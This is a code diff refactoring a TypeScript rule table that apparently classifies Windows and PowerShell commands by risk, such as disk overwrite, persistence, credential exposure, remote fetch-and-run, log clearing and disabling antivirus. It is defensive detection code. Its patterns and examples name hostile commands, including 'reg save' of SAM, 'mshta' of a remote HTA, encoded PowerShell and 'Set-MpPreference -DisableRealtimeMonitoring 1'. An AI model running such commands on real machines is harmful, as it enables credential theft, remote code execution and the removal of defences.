@@ -1,5 +1,7 @@
-import { addRoles, type Call, deletes, known, plays, reads, reveals, sends, talks, writes } from "./call.ts";
-import { beside, flag, fromAndTo, isTrial, paths } from "./cmdlet-arguments.ts";
+import { anyArgument, operandIs, paths } from "./act.ts";
+import { argText, someArg } from "./arguments.ts";
+import { addRoles, type Call, deletes, plays, reads, reveals, sends, talks, writes } from "./call.ts";
+import { beside, flag, fromAndTo, isTrial, pathArguments } from "./cmdlet-arguments.ts";
 import { tellSql } from "./databases.ts";
 import { showsVariables } from "./power-shell-output.ts";
 import type { Programs } from "./program.ts";
@@ -12,7 +14,7 @@ export const WINDOWS = (): Programs => ({
       const isForced = flag(call, "force");
       if (isTrial(call)) return;
       plays(call, "delete");
-      for (const path of paths(call)) deletes(call, path, { isTree, isForced });
+      for (const path of pathArguments(call)) deletes(call, path, { isTree, isForced });
     },
     examples: [
       ["Remove-Item -Recurse -Force build", "delete", "deletes build tree forced"],
@@ -35,9 +37,8 @@ export const WINDOWS = (): Programs => ({
     ],
   },
   format: {
-    does: (call) => {
-      if (call.command.args.some(({ text }) => /^[a-z]:|^\\\\/i.test(text))) plays(call, "disk", "overwrite");
-    },
+    when: anyArgument(/^[a-z]:|^\\\\/i),
+    roles: ["disk", "overwrite"],
     examples: [["format C:", "disk overwrite"], ["format src"]],
   },
   "format-volume clear-disk initialize-disk diskpart remove-partition": {
@@ -47,15 +48,11 @@ export const WINDOWS = (): Programs => ({
   "reg regedit": {
     readOnly: "query",
     is: { "system-settings": "reg" },
-    does: (call) => {
-      if (
-        /^(?:save|export)$/i.test(call.operands[0]?.text ?? "") &&
-        /(?:SAM|SECURITY)$/i.test(call.operands[1]?.text ?? "")
-      )
-        reveals(call);
-      if (/^(?:add|delete|import|restore|copy|load)$/i.test(call.operands[0]?.text ?? "")) plays(call, "settings");
-      if (/\\Run(?:Once)?\b/i.test(call.operands[1]?.text ?? "")) plays(call, "persistence");
-    },
+    does: [
+      { when: [operandIs(0, /^(?:save|export)$/i), operandIs(1, /(?:SAM|SECURITY)$/i)], keys: true },
+      { when: operandIs(0, /^(?:add|delete|import|restore|copy|load)$/i), roles: ["settings"] },
+      { when: operandIs(1, /\\Run(?:Once)?\b/i), roles: ["persistence"] },
+    ],
     examples: [["reg query HKCU"], ["reg delete HKCU\\x /f", "settings"]],
   },
   "set-itemproperty new-itemproperty set-executionpolicy set-service new-service register-scheduledtask": {
@@ -64,15 +61,16 @@ export const WINDOWS = (): Programs => ({
       "system-settings": "set-executionpolicy set-itemproperty new-itemproperty",
     },
     does: (call) => {
-      const words = call.command.args.map(({ text }) => text).join(" ");
-      const isOwn = /^set-executionpolicy$/i.test(call.told.program)
+      const words = argText(call);
+      const isOwn = /^set-executionpolicy$/i.test(call.report.program)
         ? /\bprocess\b|\bremotesigned\b|\brestricted\b|\ballsigned\b/i.test(words)
-        : /property$/i.test(call.told.program) && !/^(?:-path\s+)?["']?HK(?:LM|CR|U):|HKEY_LOCAL_MACHINE/i.test(words);
+        : /property$/i.test(call.report.program) &&
+          !/^(?:-path\s+)?["']?HK(?:LM|CR|U):|HKEY_LOCAL_MACHINE/i.test(words);
       if (/\/Run(?:Once)?(?:$|[\s"'/])/i.test(words.replaceAll("\\", "/"))) plays(call, "persistence");
       if (isOwn) return;
       plays(call, "settings");
-      if (/^set-service$/i.test(call.told.program) && /\b(?:disabled|stopped)\b/i.test(words)) plays(call, "kill");
-      else if (/service|task/i.test(call.told.program)) plays(call, "persistence");
+      if (/^set-service$/i.test(call.report.program) && /\b(?:disabled|stopped)\b/i.test(words)) plays(call, "kill");
+      else if (/service|task/i.test(call.report.program)) plays(call, "persistence");
     },
     examples: [
       ["Set-ExecutionPolicy Bypass", "settings"],
@@ -80,18 +78,37 @@ export const WINDOWS = (): Programs => ({
       ["New-ItemProperty HKCU:/Software/Run -Name x", "persistence"],
     ],
   },
-  "get-content gc type-object select-string": {
+  "get-content gc type-object": {
     is: { "prints-files": true },
     does: (call) => {
-      for (const path of paths(call)) reads(call, path);
+      for (const path of pathArguments(call)) reads(call, path);
     },
     examples: [["Get-Content a", "reads a"]],
   },
-  "cmdkey vaultcmd": {
+  "select-string findstr": {
+    is: { "prints-files": true },
+    readOnly: true,
     does: (call) => {
-      if (call.command.args.some(({ text }) => /^\/list/i.test(text))) reveals(call);
-      else plays(call, "account");
+      const named = pathArguments(call).filter(({ text }) => !/^\/\w/.test(text));
+      for (const path of flag(call, "pattern") ? named : named.slice(1)) reads(call, path);
     },
+    examples: [
+      ["Select-String x a", "reads a"],
+      ["Select-String -Pattern x a", "reads a"],
+      ["findstr /i x a", "reads a"],
+    ],
+  },
+  "set-location push-location": {
+    readOnly: true,
+    is: { "enters-folder": true },
+    examples: [["Set-Location a"]],
+  },
+  "get-childitem get-item get-itemproperty get-location pop-location test-path resolve-path split-path join-path write-output write-host write-verbose write-error get-process get-service get-date get-help get-command get-member get-variable get-module get-host get-acl get-filehash get-job get-alias get-psdrive get-random get-unique select-object where-object foreach-object sort-object measure-object group-object compare-object format-table format-list format-wide out-string out-null out-host convertto-json convertfrom-json convertto-csv convertfrom-csv start-sleep test-connection":
+    { readOnly: true, examples: [["Get-ChildItem -Recurse src"], ["Test-Path a"], ["Write-Output hi"]] },
+  "cmdkey vaultcmd": {
+    when: anyArgument(/^\/list/i),
+    keys: true,
+    otherwise: { roles: ["account"] },
     examples: [["cmdkey /list", "reveal"]],
   },
   "invoke-sqlcmd": {
@@ -111,10 +128,10 @@ export const WINDOWS = (): Programs => ({
     is: { "makes-windows-links": "new-item" },
     does: (call) => {
       if (isTrial(call)) return;
-      writes(call, paths(call)[0]);
+      writes(call, pathArguments(call)[0]);
       const given = call.command.args.find((_, at, all) => /^-v(?:alue)?$/i.test(all[at - 1]?.text ?? ""));
       const isNothing = given !== undefined && /^(?:\$null)?$/i.test(given.text);
-      if (/clear/i.test(call.told.program) || (/^set-content$/i.test(call.told.program) && isNothing))
+      if (/clear/i.test(call.report.program) || (/^set-content$/i.test(call.report.program) && isNothing))
         plays(call, "overwrite");
     },
     examples: [["Set-Content a b", "writes a"]],
@@ -124,10 +141,10 @@ export const WINDOWS = (): Programs => ({
       const [from, to] = fromAndTo(call);
       if (isTrial(call)) return;
       reads(call, from, { isTree: flag(call, "recurse") });
-      if (/^copy/i.test(call.told.program) === false) deletes(call, from);
-      const by = /^copy/i.test(call.told.program) ? "copy" : "move";
+      if (/^copy/i.test(call.report.program) === false) deletes(call, from);
+      const by = /^copy/i.test(call.report.program) ? "copy" : "move";
       const [isTree, isForced] = [flag(call, "recurse"), flag(call, "force")];
-      const isNamed = /^rename/i.test(call.told.program);
+      const isNamed = /^rename/i.test(call.report.program);
       writes(call, isNamed ? beside(from, to) : to, { isTree, isForced, by, source: from, landsIn: !isNamed });
     },
     examples: [
@@ -143,24 +160,24 @@ export const WINDOWS = (): Programs => ({
     does: (call) => {
       const url = call.command.args.find(({ text }) => /^https?:/.test(text));
       // A new authority is trusted for everything.
-      if (call.told.program === "certutil" && call.command.args.some(({ text }) => /^-(?:A|addstore)$/.test(text)))
+      if (call.report.program === "certutil" && someArg(call, /^-(?:A|addstore)$/))
         plays(call, "settings", "unverified");
-      if (url !== undefined)
-        talks(call, call.command.args.some(({ text }) => /^-(?:body|infile|method)/i.test(text)) ? "both" : "in", url);
+      if (url !== undefined) talks(call, someArg(call, /^-(?:body|infile|method)/i) ? "both" : "in", url);
       const after = (name: RegExp) => call.command.args.filter((_, at, all) => name.test(all[at - 1]?.text ?? ""));
       for (const path of after(/^-infile$/i)) reads(call, path);
       // What other commands of the line have read may be the body.
-      if (call.command.args.some(({ text }) => /^-(?:body|infile)/i.test(text))) sends(call, "reads");
+      if (someArg(call, /^-(?:body|infile)/i)) sends(call, "reads");
       for (const path of after(/^-(?:outfile|destination)$/i)) writes(call, path);
       if (
-        /^start-bitstransfer$/i.test(call.told.program) &&
+        /^start-bitstransfer$/i.test(call.report.program) &&
         url !== undefined &&
         call.command.args[1] !== undefined &&
         !call.command.args[1].text.startsWith("-")
       )
         writes(call, call.command.args[1]);
       const last = call.command.args.at(-1);
-      if (/^(?:certutil|bitsadmin)$/i.test(call.told.program) && url !== undefined && last !== url) writes(call, last);
+      if (/^(?:certutil|bitsadmin)$/i.test(call.report.program) && url !== undefined && last !== url)
+        writes(call, last);
     },
     examples: [
       ["Invoke-WebRequest https://h.test/x", "network-in", "fetches from h.test"],
@@ -174,9 +191,7 @@ export const WINDOWS = (): Programs => ({
     ],
   },
   "invoke-expression iex": {
-    does: (call) => {
-      call.told.input = "run";
-    },
+    input: "run",
     examples: [["iex ls"]],
   },
   mklink: { is: { "makes-windows-links": true }, examples: [["mklink /D a b"]] },
@@ -189,7 +204,7 @@ export const WINDOWS = (): Programs => ({
     is: { "windows-shell": "powershell pwsh", "runs-named": true },
     code: "read",
     does: (call) => {
-      const line = call.command.args.map(({ text }) => text).join(" ");
+      const line = argText(call);
       const isHidden = /(?:^|\s)-e(?:nc?|ncodedcommand)?\s+[A-Za-z0-9+/=]{8,}/i.test(line);
       if (
         /\b(?:get-childitem|gci|dir|ls|get-item|gi)\s+(?:-path\s+)?env:(?!\w)/i.test(line) &&
@@ -214,10 +229,10 @@ export const WINDOWS = (): Programs => ({
         plays(call, "expose");
       if (isFetched) runs(call, "network");
       const script = call.command.args.find(({ text }) => /\.ps1$/i.test(text));
-      if (script !== undefined) call.told.scripts.push(script);
+      if (script !== undefined) call.report.scripts.push(script);
       if (script !== undefined && FROM_ELSEWHERE.test(script.text)) runs(call, "network");
       if (showsVariables(line)) reveals(call);
-      if (call.command.args.every(({ text }) => text.startsWith("-"))) call.told.input = "run";
+      if (call.command.args.every(({ text }) => text.startsWith("-"))) call.report.input = "run";
     },
     examples: [
       [
@@ -239,7 +254,7 @@ export const WINDOWS = (): Programs => ({
   },
   "mshta regsvr32 rundll32 wscript cscript": {
     does: (call) => {
-      if (call.command.args.some(({ text }) => FROM_ELSEWHERE.test(text))) runs(call, "network");
+      if (someArg(call, FROM_ELSEWHERE)) runs(call, "network");
     },
     examples: [["mshta http://h.test/x.hta", "run-code", "network flows to shell"]],
   },
@@ -280,18 +295,18 @@ export const WINDOWS = (): Programs => ({
   "set-mppreference add-mppreference set-netfirewallprofile set-netfirewallrule new-netfirewallrule remove-netfirewallrule disable-netfirewallrule disable-computerrestore disable-windowsoptionalfeature set-smbserverconfiguration":
     {
       is: { "system-settings": true },
-      does: (call) => plays(call, "settings"),
+      roles: ["settings"],
       examples: [["Set-MpPreference -DisableRealtimeMonitoring 1", "settings"]],
     },
   "clear-eventlog remove-eventlog clear-history": {
-    does: (call) => plays(call, "trace-removal"),
+    roles: ["trace-removal"],
     examples: [["Clear-EventLog -LogName Security", "trace-removal"]],
   },
   "compress-archive expand-archive": {
     does: (call) => {
       const [from, to] = fromAndTo(call);
       reads(call, from, { isTree: true });
-      writes(call, to, /^expand/i.test(call.told.program) ? { isTree: true, by: "unpack" } : {});
+      writes(call, to, /^expand/i.test(call.report.program) ? { isTree: true, by: "unpack" } : {});
     },
     examples: [
       ["Compress-Archive a b.zip", "reads a tree", "writes b.zip"],
@@ -302,17 +317,16 @@ export const WINDOWS = (): Programs => ({
   "new-localuser remove-localuser set-localuser disable-localuser enable-localuser rename-localuser new-localgroup remove-localgroup remove-localgroupmember add-localgroupmember remove-aduser set-adaccountpassword disable-adaccount add-adgroupmember":
     {
       is: { "system-account": true },
-      does: (call) => plays(call, "account"),
+      roles: ["account"],
       examples: [["Add-LocalGroupMember Administrators me", "account"]],
     },
   "stop-service suspend-service remove-service spsv": {
-    does: (call) => {
-      if (!isTrial(call)) plays(call, "kill", "settings");
-    },
+    unless: (call) => isTrial(call),
+    roles: ["kill", "settings"],
     examples: [["Stop-Service -Name x -Force", "kill settings"], ["Stop-Service x -WhatIf"]],
   },
   "stop-computer restart-computer": {
-    does: (call) => plays(call, "power"),
+    roles: ["power"],
     examples: [["Restart-Computer -Force", "power"]],
   },
   sc: {
@@ -320,7 +334,7 @@ export const WINDOWS = (): Programs => ({
     is: { scheduler: true },
     does: (call) => {
       const [verb = ""] = call.command.args.map(({ text }) => text.toLowerCase());
-      if (/^(?:create|config)$/.test(verb) && call.command.args.some(({ text }) => /^(?:binpath|start)=/i.test(text)))
+      if (/^(?:create|config)$/.test(verb) && someArg(call, /^(?:binpath|start)=/i))
         plays(call, "settings", "persistence");
       if (/^(?:delete|stop)$/.test(verb)) plays(call, "kill", "settings");
       if (
@@ -349,19 +363,19 @@ export const WINDOWS = (): Programs => ({
     examples: [["net user x y /add", "account"], ["net user"], ["net stop x", "kill settings"]],
   },
   "clear-recyclebin": {
-    does: (call) => {
-      plays(call, "delete");
-      deletes(call, known("~/$Recycle.Bin"), { isTree: true, isForced: true });
-    },
+    roles: ["delete"],
+    deletes: paths("~/$Recycle.Bin"),
+    tree: true,
+    forced: true,
     examples: [["Clear-RecycleBin -Force", "delete", "deletes ~/$Recycle.Bin tree forced"]],
   },
   "start-process saps runas": {
     does: (call) => {
       const words = call.command.args.map(({ text }) => text.toLowerCase());
       const isRaised = words.some((text, at) => text === "runas" && /^-v/.test(words[at - 1] ?? ""));
-      if (call.told.program.toLowerCase() === "runas" || isRaised) plays(call, "privilege");
+      if (call.report.program.toLowerCase() === "runas" || isRaised) plays(call, "privilege");
       const program = call.command.args.find(({ text }) => /[\\/]|\.(?:exe|bat|cmd|ps1)$/i.test(text));
-      if (program !== undefined) call.told.scripts.push(program);
+      if (program !== undefined) call.report.scripts.push(program);
     },
     examples: [["Start-Process cmd -Verb RunAs", "privilege"], ["Start-Process notepad"]],
   },
@@ -374,7 +388,7 @@ const FETCHES = () =>
   /\b(?:iwr|irm|curl|wget|get-clipboard|gcb|invoke-webrequest|invoke-restmethod|start-bitstransfer)\b|\.Download(?:String|Data|File)\(|Net\.Sockets\.TCPClient/i;
 
 /** Code that came by the network, or was hidden, is run at once. */
-function runs({ told }: Call, from: "network" | "text"): void {
-  addRoles(told, ["run-code"]);
-  told.effects.push({ does: "flow", from, path: undefined, to: "shell", command: told.at });
+function runs({ report }: Call, from: "network" | "text"): void {
+  addRoles(report, ["run-code"]);
+  report.effects.push({ does: "flow", from, path: undefined, to: "shell", command: report.at });
 }
